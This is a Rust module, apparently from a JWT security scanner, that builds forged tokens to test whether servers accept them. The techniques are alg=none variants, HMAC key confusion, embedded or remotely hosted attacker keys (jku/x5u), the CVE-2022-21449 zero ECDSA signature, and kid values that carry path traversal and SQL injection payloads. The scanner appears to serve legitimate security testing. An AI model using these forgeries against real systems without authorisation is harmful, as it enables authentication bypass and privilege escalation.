//! Forged-token builders, one per `jwt.*` check, plus minting helpers used to confirm a finding.
//!
//! Every builder starts from the original token's raw segments and applies byte-preserving
//! edits (see [`crate::json_edit`]), so a forged token differs from the original only where the
//! attack requires. Each takes `edits`, the payload changes to apply (empty for "same claims").
//! The scanner calls a builder once with no edits to test acceptance (every claim kept byte for
//! byte: the forgery breaks only what it tests), and only after acceptance with the edits of
//! [`unused_claim_edits`] (a claim the application does not use to find the user) and then
//! [`role_edit`] (a role-like claim) to confirm that the claims are not protected and that the
//! server's answer follows them. The user's identity claims ([`IDENTITY_CLAIMS`]) never change.

use rand_core::{OsRng, RngCore};
use serde_json::Value;
use thiserror::Error;

use crate::alg::Alg;
use crate::b64;
use crate::json_edit::{Edit, EditError};
use crate::keys::{KeyError, PrivateKey, PublicKey, SigningKey, jwks_document};
use crate::sign::SignError;
use crate::token::{Draft, Jwt};

/// One forged token and what was done to it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Forged {
    /// Human description, e.g. `"alg=nOnE, trailing dot"`.
    pub label: String,
    /// The compact token to send.
    pub token: String,
}

/// A forged token that needs a document served from an attacker-controlled URL.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HostedKeyAttack {
    /// Tokens pointing at the URL.
    pub forged: Vec<Forged>,
    /// The body to serve at the URL (a JWKS, or a PEM certificate for `x5u`).
    pub document: String,
    /// Content type to serve it with.
    pub content_type: &'static str,
    /// `kid` the tokens carry and the document lists.
    pub kid: String,
}

/// Why a builder could not produce its tokens.
#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum AttackError {
    /// A header or payload edit failed.
    #[error(transparent)]
    Edit(#[from] EditError),
    /// Signing failed.
    #[error(transparent)]
    Sign(#[from] SignError),
    /// Key encoding or generation failed.
    #[error(transparent)]
    Key(#[from] KeyError),
    /// Certificate generation failed.
    #[error("certificate generation failed: {0}")]
    Certificate(String),
}

/// Attacker key pair set used by [`embedded_jwk`]. Generating RSA keys takes a while, so the
/// scanner makes one set per scan and reuses it.
#[derive(Debug, Clone)]
pub struct AttackerKeys {
    /// RSA 2048.
    pub rsa: PrivateKey,
    /// P-256.
    pub ec: PrivateKey,
}

impl AttackerKeys {
    /// Generates an RSA 2048 and a P-256 key.
    pub fn generate() -> Result<AttackerKeys, KeyError> {
        Ok(AttackerKeys {
            rsa: PrivateKey::generate_rsa(2048)?,
            ec: PrivateKey::generate_p256(),
        })
    }
}

fn draft(jwt: &Jwt, header: &[Edit], payload: &[Edit]) -> Result<Draft, EditError> {
    let mut d = jwt.draft();
    d.edit_header(header)?;
    d.edit_payload(payload)?;
    Ok(d)
}

fn forged(label: impl Into<String>, token: String) -> Forged {
    Forged {
        label: label.into(),
        token,
    }
}

fn original_kid(jwt: &Jwt) -> Option<&str> {
    jwt.header().get("kid").and_then(Value::as_str)
}

/// Claims by which applications find the user. A probe never changes them for a verdict: an
/// unknown user is refused for reasons that have nothing to do with the flaw under test.
pub const IDENTITY_CLAIMS: [&str; 6] = [
    "sub",
    "user_id",
    "uid",
    "email",
    "username",
    "preferred_username",
];

/// Role-like claims, in the order they are preferred for confirming a forgery: applications
/// often echo them, and changing one leaves the identity as it was.
pub const ROLE_CLAIMS: [&str; 4] = ["role", "roles", "scope", "groups"];

/// The name of the claim [`unused_claim_edits`] adds.
pub const MARKER_CLAIM: &str = "authprobe";

/// Payload edits that change the claims without touching anything an application uses to find
/// the user, each labelled, in the order to try them: a claim no application reads
/// (`"authprobe": marker`) added, then `jti` replaced by the marker and `iat` moved back one
/// second when the token has them. A server that accepts one of these with the old signature
/// (or a forged one) does not protect the claims.
pub fn unused_claim_edits(jwt: &Jwt, marker: &str) -> Vec<(String, Edit)> {
    let mut out = vec![(
        format!("claim {MARKER_CLAIM:?} added"),
        Edit::set(MARKER_CLAIM, marker),
    )];
    if jwt.claims().get("jti").is_some_and(Value::is_string) {
        out.push(("jti changed".to_owned(), Edit::set("jti", marker)));
    }
    if let Some(iat) = jwt.claims().get("iat").and_then(Value::as_u64) {
        out.push((
            "iat moved back one second".to_owned(),
            Edit::set("iat", int(iat.saturating_sub(1))),
        ));
    }
    out
}

/// The role-like claim to set to `marker` for confirmation, and the edit, keeping the claim's
/// shape: a string is replaced, a space-separated `scope` and a list get the marker appended
/// (so the user keeps what they had). When the token has no role-like claim, a new `role`
/// claim is added. Never an identity claim.
pub fn role_edit(jwt: &Jwt, marker: &str) -> (String, Edit) {
    for claim in ROLE_CLAIMS {
        match jwt.claims().get(claim) {
            Some(Value::Array(items)) => {
                let mut items = items.clone();
                items.push(Value::from(marker));
                return (claim.to_owned(), Edit::set(claim, Value::Array(items)));
            }
            Some(Value::String(v)) if claim == "scope" && !v.is_empty() => {
                return (claim.to_owned(), Edit::set(claim, format!("{v} {marker}")));
            }
            Some(Value::String(_)) => return (claim.to_owned(), Edit::set(claim, marker)),
            _ => {}
        }
    }
    ("role".to_owned(), Edit::set("role", marker))
}

/// Whether `token` carries every identity claim of `original` unchanged (and adds none).
pub fn keeps_identity(original: &Jwt, token: &str) -> bool {
    let Some(payload) = token.split('.').nth(1) else {
        return false;
    };
    let Some(claims) = b64::decode(payload)
        .ok()
        .and_then(|b| serde_json::from_slice::<serde_json::Map<String, Value>>(&b).ok())
    else {
        return false;
    };
    IDENTITY_CLAIMS
        .iter()
        .all(|c| claims.get(*c) == original.claims().get(*c))
}

/// How a token gets its signature: each way the scan can prove the server accepts.
// A scan holds a handful of signers; boxing the key would buy nothing but an indirection.
#[allow(clippy::large_enum_variant)]
#[derive(Clone)]
pub enum Signer {
    /// Signed under `alg` with `key`: given, recovered by cracking, or the server's public key
    /// used as an HMAC secret.
    Key {
        /// The algorithm the header names and the signature uses.
        alg: Alg,
        /// The key.
        key: SigningKey,
    },
    /// Unsigned: `alg` set to a spelling of `none`.
    None {
        /// The spelling of `none` in the header.
        spelling: String,
        /// Whether the token ends with the dot before the (empty) signature.
        trailing_dot: bool,
    },
    /// The original header and signature kept over the edited claims: for a server that does
    /// not verify signatures.
    OriginalSignature,
}

impl std::fmt::Debug for Signer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Signer::Key { alg, .. } => write!(f, "Signer::Key({alg}, <key>)"),
            Signer::None {
                spelling,
                trailing_dot,
            } => write!(
                f,
                "Signer::None({spelling:?}, trailing dot: {trailing_dot})"
            ),
            Signer::OriginalSignature => write!(f, "Signer::OriginalSignature"),
        }
    }
}

impl Signer {
    /// `alg` with `key`.
    pub fn key(alg: Alg, key: SigningKey) -> Signer {
        Signer::Key { alg, key }
    }

    /// The token with `edits` applied to its payload, signed this way. Only `alg` changes in
    /// the header (nothing for [`Signer::OriginalSignature`]).
    pub fn token(&self, jwt: &Jwt, edits: &[Edit]) -> Result<String, AttackError> {
        match self {
            Signer::Key { alg, key } => {
                let d = draft(jwt, &[Edit::set("alg", alg.name())], edits)?;
                Ok(d.sign(*alg, key)?)
            }
            Signer::None {
                spelling,
                trailing_dot,
            } => {
                let d = draft(jwt, &[Edit::set("alg", spelling.as_str())], edits)?;
                Ok(d.unsigned(*trailing_dot))
            }
            Signer::OriginalSignature => {
                let d = draft(jwt, &[], edits)?;
                Ok(d.with_raw_signature(jwt.raw_signature()))
            }
        }
    }
}

/// The spellings of `none` tried: filters that compare case-sensitively miss the odd ones.
pub const NONE_SPELLINGS: [&str; 4] = ["none", "None", "NONE", "nOnE"];

/// The signers of `jwt.alg_none`, labelled: each spelling of `none`, with and without the
/// trailing dot.
pub fn alg_none_signers() -> Vec<(String, Signer)> {
    let mut out = Vec::new();
    for spelling in NONE_SPELLINGS {
        for trailing_dot in [true, false] {
            let label = if trailing_dot {
                format!("alg={spelling}, trailing dot")
            } else {
                format!("alg={spelling}, no trailing dot")
            };
            out.push((
                label,
                Signer::None {
                    spelling: spelling.to_owned(),
                    trailing_dot,
                },
            ));
        }
    }
    out
}

/// `jwt.alg_none`: `alg` set to each spelling of `none`, with and without the trailing dot.
///
/// Hand-rolled: no signing library will emit an unsigned token, which is the point.
pub fn alg_none(jwt: &Jwt, edits: &[Edit]) -> Result<Vec<Forged>, AttackError> {
    alg_none_signers()
        .into_iter()
        .map(|(label, signer)| Ok(forged(label, signer.token(jwt, edits)?)))
        .collect()
}

/// `jwt.signature_not_verified`: the edited claims with the original signature (only when
/// `edits` is non-empty: without edits that would be the original token), with a random
/// signature of the original length, and with the original signature's last bit flipped.
pub fn signature_not_verified(jwt: &Jwt, edits: &[Edit]) -> Result<Vec<Forged>, AttackError> {
    let d = draft(jwt, &[], edits)?;
    let what = if edits.is_empty() {
        "original claims"
    } else {
        "claims changed"
    };
    let mut out = Vec::new();
    if !edits.is_empty() {
        out.push(forged(
            "claims changed, original signature kept",
            d.with_raw_signature(jwt.raw_signature()),
        ));
    }
    let len = if jwt.signature().is_empty() {
        32
    } else {
        jwt.signature().len()
    };
    let mut random = vec![0u8; len];
    OsRng.fill_bytes(&mut random);
    out.push(forged(
        format!("{what}, random {len}-byte signature"),
        d.with_signature(&random),
    ));
    let mut flipped = jwt.signature().to_vec();
    if let Some(last) = flipped.last_mut() {
        *last ^= 1;
        out.push(forged(
            format!("{what}, original signature with one bit flipped"),
            d.with_signature(&flipped),
        ));
    }
    Ok(out)
}

/// `jwt.empty_signature`: the signature segment emptied, the trailing dot kept.
pub fn empty_signature(jwt: &Jwt, edits: &[Edit]) -> Result<Vec<Forged>, AttackError> {
    let d = draft(jwt, &[], edits)?;
    Ok(vec![forged(
        format!(
            "alg={} kept, signature removed (trailing dot kept)",
            jwt.alg().unwrap_or("?")
        ),
        d.unsigned(true),
    )])
}

/// The byte strings a confused server might use as the HMAC secret for `key`, labelled.
/// `original` is the key exactly as found (PEM file, JWKS entry text): when present it comes
/// first, since the server most likely holds those very bytes.
pub fn confusion_secrets(
    key: &PublicKey,
    original: Option<&[u8]>,
) -> Result<Vec<(String, Vec<u8>)>, KeyError> {
    let mut out: Vec<(String, Vec<u8>)> = Vec::new();
    let mut add = |label: &str, bytes: Vec<u8>| {
        if !out.iter().any(|(_, b)| *b == bytes) {
            out.push((label.to_owned(), bytes));
        }
    };
    if let Some(orig) = original {
        add("the key text as given", orig.to_vec());
        match orig.strip_suffix(b"\n") {
            Some(trimmed) => add(
                "the key text as given, final newline removed",
                trimmed.to_vec(),
            ),
            None => add(
                "the key text as given, plus a final newline",
                [orig, b"\n"].concat(),
            ),
        }
    }
    let spki_pem = key.to_spki_pem()?;
    add("SPKI PEM with final newline", spki_pem.clone().into_bytes());
    add(
        "SPKI PEM without final newline",
        spki_pem.trim_end().as_bytes().to_vec(),
    );
    if let Some(pkcs1_pem) = key.to_pkcs1_pem() {
        add(
            "PKCS#1 PEM with final newline",
            pkcs1_pem.clone().into_bytes(),
        );
        add(
            "PKCS#1 PEM without final newline",
            pkcs1_pem.trim_end().as_bytes().to_vec(),
        );
    }
    add("SPKI DER", key.to_spki_der()?);
    if let Some(der) = key.to_pkcs1_der() {
        add("PKCS#1 DER", der);
    }
    add("public JWK JSON", key.to_jwk().into_bytes());
    Ok(out)
}

/// The signers of `jwt.key_confusion`, labelled: HS256/384/512 keyed with every encoding of
/// `key` from [`confusion_secrets`].
pub fn key_confusion_signers(
    key: &PublicKey,
    original: Option<&[u8]>,
) -> Result<Vec<(String, Signer)>, KeyError> {
    let secrets = confusion_secrets(key, original)?;
    let mut out = Vec::new();
    for alg in [Alg::Hs256, Alg::Hs384, Alg::Hs512] {
        for (label, secret) in &secrets {
            out.push((
                format!("{alg} keyed with the {label}"),
                Signer::Key {
                    alg,
                    key: SigningKey::Hmac(secret.clone()),
                },
            ));
        }
    }
    Ok(out)
}

/// `jwt.key_confusion`: the token HMAC-signed (HS256/384/512) with the server's public key
/// bytes as the secret, in every encoding from [`confusion_secrets`].
pub fn key_confusion(
    jwt: &Jwt,
    edits: &[Edit],
    key: &PublicKey,
    original: Option<&[u8]>,
) -> Result<Vec<Forged>, AttackError> {
    key_confusion_signers(key, original)?
        .into_iter()
        .map(|(label, signer)| Ok(forged(label, signer.token(jwt, edits)?)))
        .collect()
}

/// `jwt.embedded_jwk`: the token signed by an attacker key whose public half rides in the
/// header `jwk` (with the original `kid` copied in, for servers that match on it).
pub fn embedded_jwk(
    jwt: &Jwt,
    edits: &[Edit],
    keys: &AttackerKeys,
) -> Result<Vec<Forged>, AttackError> {
    let kid = original_kid(jwt);
    let mut out = Vec::new();
    for key in [&keys.rsa, &keys.ec] {
        let alg = key.default_alg();
        let jwk = key.public_key().to_jwk_with(kid, None);
        let d = draft(
            jwt,
            &[Edit::set("alg", alg.name()), Edit::set_raw("jwk", jwk)],
            edits,
        )?;
        let token = d.sign(alg, &SigningKey::Private(key.clone()))?;
        out.push(forged(
            format!("attacker {} key in header jwk, {alg}", key.kind()),
            token,
        ));
    }
    Ok(out)
}

/// `jwt.jku_injection` (jku): the token points `jku` at `url` and is signed by `key`; the
/// returned document is the JWKS to serve there. The original `kid` is kept (or `authprobe`
/// set) and the JWKS lists the key under it, so servers that select by `kid` find it.
pub fn jku_injection(
    jwt: &Jwt,
    edits: &[Edit],
    url: &str,
    key: &PrivateKey,
) -> Result<HostedKeyAttack, AttackError> {
    hosted_key(jwt, edits, "jku", url, key, |kid, alg| {
        Ok((
            jwks_document(&key.public_key(), kid, alg),
            "application/json",
        ))
    })
}

/// `jwt.jku_injection` (x5u): the token points `x5u` at `url` and is signed by `key`; the
/// returned document is a self-signed PEM certificate for that key, to serve there.
pub fn x5u_injection(
    jwt: &Jwt,
    edits: &[Edit],
    url: &str,
    key: &PrivateKey,
) -> Result<HostedKeyAttack, AttackError> {
    hosted_key(jwt, edits, "x5u", url, key, |_, _| {
        Ok((self_signed_certificate_pem(key)?, "application/x-pem-file"))
    })
}

/// A token whose header member `member` points at `url`, signed by `key`, with the
/// document `document(kid, alg)` says the attacker must serve there.
fn hosted_key(
    jwt: &Jwt,
    edits: &[Edit],
    member: &str,
    url: &str,
    key: &PrivateKey,
    document: impl FnOnce(&str, Alg) -> Result<(String, &'static str), AttackError>,
) -> Result<HostedKeyAttack, AttackError> {
    let kid = original_kid(jwt).unwrap_or("authprobe").to_owned();
    let alg = key.default_alg();
    let (document, content_type) = document(&kid, alg)?;
    let d = draft(
        jwt,
        &[
            Edit::set("alg", alg.name()),
            Edit::set(member, url),
            Edit::set("kid", kid.as_str()),
        ],
        edits,
    )?;
    let token = d.sign(alg, &SigningKey::Private(key.clone()))?;
    Ok(HostedKeyAttack {
        forged: vec![forged(
            format!(
                "{member}={url}, signed by attacker {} key, {alg}",
                key.kind()
            ),
            token,
        )],
        document,
        content_type,
        kid,
    })
}

/// A self-signed certificate (CN and SAN `authprobe.invalid`) for `key`, PEM-encoded.
pub fn self_signed_certificate_pem(key: &PrivateKey) -> Result<String, AttackError> {
    let cert_err = |e: rcgen::Error| AttackError::Certificate(e.to_string());
    let der = key.to_pkcs8_der()?;
    let pair = rcgen::KeyPair::try_from(der.as_slice()).map_err(cert_err)?;
    let params =
        rcgen::CertificateParams::new(vec!["authprobe.invalid".to_owned()]).map_err(cert_err)?;
    Ok(params.self_signed(&pair).map_err(cert_err)?.pem())
}

/// A `kid` value and the HMAC secret the server would end up using if it trusts it.
struct KidCase {
    kid: &'static str,
    secret: &'static [u8],
    why: &'static str,
}

// Ten `../` reach `/` from any realistic key directory; extra ones stop at `/` harmlessly.
const KID_CASES: &[KidCase] = &[
    KidCase {
        kid: "../../../../../../../../../../dev/null",
        secret: b"",
        why: "path traversal to /dev/null, empty HMAC key",
    },
    KidCase {
        kid: "/dev/null",
        secret: b"",
        why: "absolute path /dev/null, empty HMAC key",
    },
    // The kernel's ostype is "Linux\n" on every Linux host, world-readable and constant,
    // which makes it a key whose content is known without guessing.
    KidCase {
        kid: "../../../../../../../../../../proc/sys/kernel/ostype",
        secret: b"Linux\n",
        why: "path traversal to /proc/sys/kernel/ostype, HMAC key \"Linux\\n\"",
    },
    KidCase {
        kid: "../../../../../../../../../../proc/sys/kernel/ostype",
        secret: b"Linux",
        why: "path traversal to /proc/sys/kernel/ostype, HMAC key \"Linux\" (newline trimmed)",
    },
    KidCase {
        kid: "x' UNION SELECT 'authprobe'-- ",
        secret: b"authprobe",
        why: "SQL injection (single-quoted string context) selecting key \"authprobe\"",
    },
    KidCase {
        kid: "x\" UNION SELECT \"authprobe\"-- ",
        secret: b"authprobe",
        why: "SQL injection (double-quoted string context) selecting key \"authprobe\"",
    },
    KidCase {
        kid: "0 UNION SELECT 'authprobe'",
        secret: b"authprobe",
        why: "SQL injection (numeric context) selecting key \"authprobe\"",
    },
];

/// `jwt.kid_injection`: `kid` values that make a vulnerable server load a key of known
/// content (an empty file, a constant /proc file, a value chosen by SQL injection), each
/// signed with that content as HMAC key. HS256 unless the token already uses HS384/HS512.
pub fn kid_injection(jwt: &Jwt, edits: &[Edit]) -> Result<Vec<Forged>, AttackError> {
    let alg = match jwt.alg().and_then(Alg::from_name) {
        Some(a @ (Alg::Hs384 | Alg::Hs512)) => a,
        _ => Alg::Hs256,
    };
    let mut out = Vec::new();
    for case in KID_CASES {
        let d = draft(
            jwt,
            &[Edit::set("alg", alg.name()), Edit::set("kid", case.kid)],
            edits,
        )?;
        let token = d.sign(alg, &SigningKey::Hmac(case.secret.to_vec()))?;
        out.push(forged(format!("kid {}, {alg}", case.why), token));
    }
    Ok(out)
}

/// The DER encoding of the ECDSA signature (r = 0, s = 0): SEQUENCE { INTEGER 0, INTEGER 0 }.
pub const PSYCHIC_DER: [u8; 8] = [0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00];

/// `jwt.psychic_signature` (CVE-2022-21449): ECDSA signatures with r = s = 0, in JOSE raw
/// form (all-zero bytes of the algorithm's width) and in DER form. For an ES* token only its
/// own algorithm is used; otherwise all three.
///
/// Hand-rolled: ECDSA libraries refuse to produce, or even parse, a zero signature.
pub fn psychic_signature(jwt: &Jwt, edits: &[Edit]) -> Result<Vec<Forged>, AttackError> {
    let algs: Vec<Alg> = match jwt.alg().and_then(Alg::from_name) {
        Some(a @ (Alg::Es256 | Alg::Es384 | Alg::Es512)) => vec![a],
        _ => vec![Alg::Es256, Alg::Es384, Alg::Es512],
    };
    let mut out = Vec::new();
    for alg in algs {
        let width = match alg {
            Alg::Es256 => 64,
            Alg::Es384 => 96,
            _ => 132,
        };
        let d = draft(jwt, &[Edit::set("alg", alg.name())], edits)?;
        out.push(forged(
            format!("{alg}, r = s = 0, raw {width}-byte signature"),
            d.with_signature(&vec![0u8; width]),
        ));
        out.push(forged(
            format!("{alg}, r = s = 0, DER signature"),
            d.with_signature(&PSYCHIC_DER),
        ));
    }
    Ok(out)
}

/// Seconds since the Unix epoch, for the minting helpers' `now`.
pub fn unix_now() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_secs())
}

fn int(n: u64) -> Value {
    Value::from(n)
}

/// Re-signs the token with a known key under `alg` after applying `edits`: [`mint_with`] and
/// [`Signer::Key`].
pub fn mint(
    jwt: &Jwt,
    alg: Alg,
    key: &SigningKey,
    edits: &[Edit],
    now: u64,
) -> Result<String, AttackError> {
    mint_with(jwt, &Signer::key(alg, key.clone()), edits, now)
}

/// Re-issues the token with `signer` after applying `edits`. The `iat`/`exp` window is first
/// made current (`iat = now`, `exp = now + 600`, an existing `nbf` moved to `now - 60`), so that
/// only what the edits change can make the server refuse it. Every other claim, the identity
/// ([`IDENTITY_CLAIMS`]) included, is kept byte for byte.
pub fn mint_with(
    jwt: &Jwt,
    signer: &Signer,
    edits: &[Edit],
    now: u64,
) -> Result<String, AttackError> {
    let mut all = vec![Edit::set("iat", int(now)), Edit::set("exp", int(now + 600))];
    if jwt.claims().contains_key("nbf") {
        all.push(Edit::set("nbf", int(now.saturating_sub(60))));
    }
    all.extend_from_slice(edits);
    signer.token(jwt, &all)
}

/// `jwt.expired_accepted`: `exp` an hour in the past (and `iat`, `nbf` before it).
pub fn mint_expired(jwt: &Jwt, signer: &Signer, now: u64) -> Result<Forged, AttackError> {
    let mut edits = vec![
        Edit::set("iat", int(now.saturating_sub(7200))),
        Edit::set("exp", int(now.saturating_sub(3600))),
    ];
    if jwt.claims().contains_key("nbf") {
        edits.push(Edit::set("nbf", int(now.saturating_sub(7200))));
    }
    Ok(forged(
        "exp one hour in the past",
        mint_with(jwt, signer, &edits, now)?,
    ))
}

/// `jwt.nbf_not_enforced`: `nbf` an hour in the future, `exp` after it.
pub fn mint_not_yet_valid(jwt: &Jwt, signer: &Signer, now: u64) -> Result<Forged, AttackError> {
    let edits = [
        Edit::set("nbf", int(now + 3600)),
        Edit::set("exp", int(now + 7200)),
    ];
    Ok(forged(
        "nbf one hour in the future",
        mint_with(jwt, signer, &edits, now)?,
    ))
}

/// `jwt.audience_not_checked`: `aud` replaced by `audience`, or removed when `None`.
pub fn mint_other_audience(
    jwt: &Jwt,
    signer: &Signer,
    audience: Option<&str>,
    now: u64,
) -> Result<Forged, AttackError> {
    let (label, edit) = match audience {
        Some(a) => (format!("aud set to {a:?}"), Edit::set("aud", a)),
        None => ("aud removed".to_owned(), Edit::remove("aud")),
    };
    Ok(forged(label, mint_with(jwt, signer, &[edit], now)?))
}

/// `jwt.issuer_not_checked`: `iss` replaced by `issuer`.
pub fn mint_other_issuer(
    jwt: &Jwt,
    signer: &Signer,
    issuer: &str,
    now: u64,
) -> Result<Forged, AttackError> {
    Ok(forged(
        format!("iss set to {issuer:?}"),
        mint_with(jwt, signer, &[Edit::set("iss", issuer)], now)?,
    ))
}

/// One claim (a role, a binding such as `cnf`; never an identity claim) set to `value` and
/// the token validly re-signed.
pub fn mint_changed_claim(
    jwt: &Jwt,
    alg: Alg,
    key: &SigningKey,
    claim: &str,
    value: Value,
    now: u64,
) -> Result<Forged, AttackError> {
    let label = format!("{claim} set to {value}");
    Ok(forged(
        label,
        mint(jwt, alg, key, &[Edit::set(claim, value)], now)?,
    ))
}

/// Decodes the header of a forged token; used by tests and by reports that show what a
/// forged header looked like.
pub fn forged_header(token: &str) -> Option<Value> {
    let header = token.split('.').next()?;
    serde_json::from_slice(&b64::decode(header).ok()?).ok()
}
